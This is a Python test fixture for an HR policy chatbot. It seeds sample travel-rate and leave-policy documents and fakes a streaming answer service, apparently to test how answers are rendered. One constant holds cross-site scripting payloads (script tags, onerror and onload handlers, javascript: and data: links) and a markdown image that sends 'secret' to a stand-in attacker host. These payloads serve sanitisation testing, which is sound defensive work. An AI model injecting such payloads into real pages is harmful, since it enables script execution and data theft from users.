"""Documents and answers that put everything the page can show on the page, at a reader's pace."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator
from dataclasses import replace
from datetime import date

from assistant.domain.answers import Answer, AnswerEvent, Citation, Delta, Finished, Outcome, Progress, Stage
from assistant.domain.documents import Chunk, ChunkKind, Clause, ClauseKind, StructuredVersion
from assistant.domain.identity import Principal
from assistant.domain.passages import Passage
from assistant.domain.questions import Question, language_of
from assistant.errors import Overloaded
from assistant.storage.opening import Storage
from tests.features.company import LEAVE_CHUNK, OLD_CHUNK, TODAY, move_in, one_clause, publish

TRAVEL_CHUNK, ENGLISH_CHUNK = "4" * 32, "5" * 32
TABLE = "| 职级 | 一线城市 | 二线城市 |\n|---|---|---|\n| P1–P4 | 400元 | 320元 |\n| P5–P6 | 500元 | 420元 |"
ENGLISH = "Employees in Singapore are entitled to 14 days of paid annual leave in the first year of service."

LEAVE_ANSWER = """正式员工每年享有 **10天** 带薪年假[1]。申请步骤：

1. 登录 OA 系统，填写《年休假申请单》；
2. 至少提前 **7个工作日** 提交审批[1]；
3. 由直属上级批准后生效。

出差期间住宿按下表报销，与年假无关[2]：

| 职级 | 一线城市 | 二线城市 |
|---|---|---|
| P1–P4 | 400元 | 320元 |
"""
HOSTILE_ANSWER = """<img src=x onerror=document.title='broken'> <script>document.title='broken'</script>

![x](http://attacker.example/?q=secret) [x](javascript:document.title='broken') [y](data:text/html,1)

| <b onmouseover=alert(1)>a</b> | b |
|---|---|
| <svg onload=alert(1)> | [9] |
"""


def furnish(storage: Storage) -> None:
    """The company, a table of rates, and a handbook in English."""
    move_in(storage)
    publish(storage, "差旅与报销标准", "V2.0", _travel(), date(2025, 3, 1))
    publish(
        storage, "Employee Handbook (Singapore)", "2025", one_clause(ENGLISH_CHUNK, ENGLISH), date(2025, 1, 1)
    )


def _travel() -> StructuredVersion:
    path = ("第三章 住宿", "第八条 住宿标准")
    clause = Clause(0, ClauseKind.ARTICLE, "第3章第8条", "住宿标准", path, None, 4, 5)
    before = Chunk("6" * 32, 0, 0, ChunkKind.TEXT, "住宿费在下列标准内据实报销：", "x", 4, 4)
    table = Chunk(TRAVEL_CHUNK, 1, 0, ChunkKind.TABLE, TABLE, "x", 4, 5)
    return StructuredVersion((clause,), (before, table), 9)


class ShowingAnswers:
    """Answers by what the question holds. `慢` streams until it is stopped; `忙` is refused at first."""

    pace = 0.0
    """Seconds between pieces."""

    def __init__(self, storage: Storage) -> None:
        self._storage = storage
        self.let_go = 0
        self.asked: list[tuple[str, date | None]] = []

    def forget(self, conversation_id: str) -> None: ...

    async def answer(
        self, text: str, conversation_id: str | None, principal: Principal, *, as_of: date | None = None
    ) -> AsyncGenerator[AnswerEvent]:
        """One answer."""
        self.asked.append((text, as_of))
        conversation = self._storage.conversations.get(principal, conversation_id or "")
        if text == "忙":
            raise Overloaded("the queue is full; try again soon", 7)
        yield Progress(Stage.SEARCHING)
        answer = self._compose(text, principal, as_of or TODAY)
        try:
            await asyncio.sleep(self.pace * 5)
            yield Progress(Stage.WRITING)
            async for piece in self._pieces(answer.text, endless="慢" in text):
                yield Delta(piece)
        except BaseException:
            self.let_go += 1
            raise
        if answer.outcome is not Outcome.HANDED_OVER:
            turn = self._storage.conversations.append(principal, conversation.id, text, answer)
            answer = replace(answer, turn_id=turn)
        yield Finished(answer)

    async def _pieces(self, text: str, endless: bool) -> AsyncGenerator[str]:
        for start in range(0, len(text), 3):
            yield text[start : start + 3]
            await asyncio.sleep(max(self.pace, 0.02 if endless else 0.0))
        while endless:
            yield "还有，"
            await asyncio.sleep(0.02)

    def _compose(self, text: str, principal: Principal, day: date) -> Answer:
        question = Question(text, text, day, language_of(text))
        if "骚扰" in text:
            return Answer("这类事情请直接联系保密渠道：员工关系组。", Outcome.HANDED_OVER, question=question)
        if "火星" in text:
            nearest = self._cite(principal, day, TRAVEL_CHUNK, LEAVE_CHUNK)
            said = "现行制度中没有找到能回答这个问题的条款，我不做猜测。请联系 HR 服务台，或换一种问法再试。"
            return Answer(said, Outcome.UNANSWERABLE, nearest=nearest, question=question)
        if "hostile" in text:
            return Answer(HOSTILE_ANSWER, Outcome.ANSWERED, question=question)
        if question.language == "en":
            cited = self._cite(principal, day, ENGLISH_CHUNK)
            return Answer(
                "You get **14 days** of paid annual leave in your first year[1].",
                Outcome.ANSWERED,
                cited,
                question=question,
            )
        leave = OLD_CHUNK if day.year < 2025 else LEAVE_CHUNK
        cited = self._cite(principal, day, leave, TRAVEL_CHUNK)
        notes = (f"以{day}有效的规定为准。",) if leave == OLD_CHUNK else ()
        return Answer(LEAVE_ANSWER, Outcome.ANSWERED, cited, question=question, notes=notes)

    def _cite(self, principal: Principal, day: date, *chunks: str) -> tuple[Citation, ...]:
        found = self._storage.policies.passages(chunks, principal, day).values()
        return tuple(Citation.of(number, passage, _quote(passage)) for number, passage in enumerate(found, 1))


def _quote(passage: Passage) -> str:
    return passage.text.partition("，")[0] if "|" not in passage.text else "P1–P4 | 400元 | 320元"
